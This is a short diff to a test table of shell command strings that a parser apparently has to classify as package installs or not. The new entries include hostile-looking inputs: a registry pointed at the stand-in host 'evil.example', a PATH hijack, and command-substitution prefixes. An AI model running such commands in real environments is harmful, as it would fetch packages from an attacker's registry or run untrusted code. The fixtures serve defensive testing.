@@ -171,7 +171,11 @@ COMMANDS: Final = {
     "pip install --no-index x": None,
     "npm install $(cat names)": None,
     "eval npm install": None,
-    "NPM=1 npm install": None,
+    "CI=1 NODE_ENV=test npm ci": (("npm",), True),
+    "PATH=. npm install": None,
+    "npm_config_registry=https://evil.example npm install": None,
+    "X=$(run) npm install": None,
+    "X=1": None,
     "echo npm install": None,
     "pip list install": None,
 }
